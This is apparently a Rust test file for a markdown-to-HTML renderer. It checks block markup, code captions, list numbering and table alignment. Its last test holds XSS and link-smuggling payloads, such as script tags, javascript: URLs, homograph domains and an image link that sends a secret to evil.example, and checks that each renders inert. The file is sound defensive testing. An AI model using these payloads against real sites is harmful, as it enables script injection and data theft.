mod allowlist;
mod hostile;
mod streaming;

use super::html;

#[test]
fn each_block_has_its_markup() {
    for (text, expected) in [
        ("one\ntwo", "<p dir=\"auto\">one\ntwo</p>"),
        ("one  \ntwo", "<p dir=\"auto\">one<br>\ntwo</p>"),
        ("- a\n- b", "<ul>\n<li dir=\"auto\">a</li>\n<li dir=\"auto\">b</li>\n</ul>"),
        ("- [ ] a\n- [x] b", "<ul>\n<li dir=\"auto\">☐ a</li>\n<li dir=\"auto\">☑ b</li>\n</ul>"),
        ("# Big", "<h3 dir=\"auto\">Big</h3>"),
        ("## Big", "<h4 dir=\"auto\">Big</h4>"),
        ("##### Small", "<h6 dir=\"auto\">Small</h6>"),
        ("# Big {#main .wide}", "<h3 dir=\"auto\">Big {#main .wide}</h3>"),
        ("> a", "<blockquote dir=\"auto\">\n<p dir=\"auto\">a</p>\n</blockquote>"),
        ("***", "<hr>"),
        ("*a* **b** ~~c~~ `d<e`", "<p dir=\"auto\"><em>a</em> <strong>b</strong> <del>c</del> <code>d&lt;e</code></p>"),
        ("مرحبا", "<p dir=\"auto\">مرحبا</p>"),
    ] {
        assert_eq!(html(text).trim(), expected, "{text}");
    }
}

#[test]
fn the_style_guide_shows_an_answer_as_it_is_typeset() {
    let typeset = html(include_str!("../../../../../app/src/ui/samples/answer.md"));
    assert_eq!(typeset.trim(), include_str!("../../../../../app/src/ui/samples/answer.html").trim());
}

#[test]
fn code_names_its_language_and_can_be_scrolled_by_keyboard() {
    let code = |lang: &str, caption: &str| {
        format!(
            "<figure class=\"code-block\"{lang}><figcaption>{caption}</figcaption>\
             <pre tabindex=\"0\"><code>a &lt; b\n</code></pre></figure>"
        )
    };
    for (info, language) in [("rust", "rust"), ("c++ title=\"x\"", "c++"), ("Objective-C", "Objective-C")] {
        let text = format!("```{info}\na < b\n```");
        assert_eq!(html(&text).trim(), code(&format!(" data-lang=\"{language}\""), language), "{text}");
    }
    for info in ["", "\"onclick=x", "a>b", "abcdefghijklmnopqrstu", "日本"] {
        assert_eq!(html(&format!("```{info}\na < b\n```")).trim(), code("", ""), "{info}");
    }
    assert_eq!(html("    a < b").trim().replace("\n</code>", "</code>"), code("", "").replace("\n</code>", "</code>"));
}

#[test]
fn a_numbered_list_goes_on_after_code() {
    let text = "1. one\n\n```sh\nls\n```\n\n2. two\n\n```sh\nls\n```\n\n3. three";
    let lists: Vec<String> = html(text).lines().filter(|line| line.starts_with("<ol")).map(str::to_owned).collect();
    assert_eq!(lists, ["<ol>", "<ol start=\"2\">", "<ol start=\"3\">"]);
}

#[test]
fn a_table_scrolls_by_itself_and_aligns_its_columns_by_class() {
    let table = html("| a | b | c | d |\n|---|:-:|--:|:--|\n| 1 | 2 | 3 | |");
    let expected = "\
<div class=\"scroll\" role=\"region\" tabindex=\"0\" aria-label=\"Table\"><table>
<thead><tr><th dir=\"auto\">a</th><th dir=\"auto\" class=\"a-c\">b</th><th dir=\"auto\" class=\"a-r\">c</th><th dir=\"auto\">d</th></tr></thead>
<tbody>
<tr><td dir=\"auto\">1</td><td dir=\"auto\" class=\"a-c\">2</td><td dir=\"auto\" class=\"a-r\">3</td><td dir=\"auto\"></td></tr>
</tbody></table></div>
";
    assert_eq!(table, expected);
}

#[test]
fn attack_41_markdown_becomes_inert_html() {
    let link = |href: &str| format!("<a href=\"{href}\" rel=\"nofollow noopener noreferrer\">");
    for (text, expected) in [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;".to_owned()),
        ("a <b onclick=x>b</b>", "a &lt;b onclick=x&gt;b&lt;/b&gt;".to_owned()),
        ("![seen](https://evil.example/?secret)", "seen".to_owned()),
        ("[ok](https://a.example/x)", format!("{}ok</a> (https://a.example/x)", link("https://a.example/x"))),
        (
            "[ok](https://a.example/?q=\u{e0049}\u{200b})",
            format!(
                "{}ok</a> (https://a.example/?q=%F3%A0%81%89%E2%80%8B)",
                link("https://a.example/?q=%F3%A0%81%89%E2%80%8B")
            ),
        ),
        (
            "[bank](https://b\u{430}nk.example)",
            format!("{}bank</a> (https://xn--bnk-6cd.example/)", link("https://xn--bnk-6cd.example/")),
        ),
        ("[us](mailto:it@acme.example)", format!("{}us</a> (mailto:it@acme.example)", link("mailto:it@acme.example"))),
        ("[x](javascript:alert(1))", "x".to_owned()),
        ("[x](JaVaScRiPt:alert(1))", "x".to_owned()),
        ("[x](data:text/html,x)", "x".to_owned()),
        ("[x](/auth/logout)", "x".to_owned()),
        ("[x](//evil.example)", "x".to_owned()),
        ("[x](ftp://evil.example)", "x".to_owned()),
        ("<bob@acme.example>", "bob@acme.example".to_owned()),
    ] {
        assert_eq!(html(text).trim(), format!("<p dir=\"auto\">{expected}</p>"), "{text}");
    }
}
